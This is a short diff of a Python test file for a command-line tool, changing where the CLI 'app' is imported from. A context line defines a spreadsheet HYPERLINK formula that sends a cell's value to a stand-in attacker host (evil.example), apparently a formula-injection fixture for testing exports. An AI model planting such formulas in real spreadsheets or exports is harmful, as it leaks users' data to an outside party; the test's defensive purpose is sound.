@@ -12,8 +12,8 @@ import pytest
 from test_api_support import seed_world
 from typer.testing import CliRunner
 
+from cli.main import app
 from engine import auth, cases, exports, store
-from engine.cli import app
 
 runner = CliRunner()
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
